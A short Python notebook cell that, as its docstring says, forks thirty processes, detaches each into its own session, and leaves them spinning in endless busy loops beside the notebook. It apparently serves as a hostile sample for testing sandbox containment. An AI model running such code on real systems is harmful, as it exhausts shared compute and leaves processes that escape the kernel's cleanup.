"""Leaves thirty processes that compute without end beside the notebook, in sessions of their own."""
# %% first
import os

for _ in range(30):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:
        break
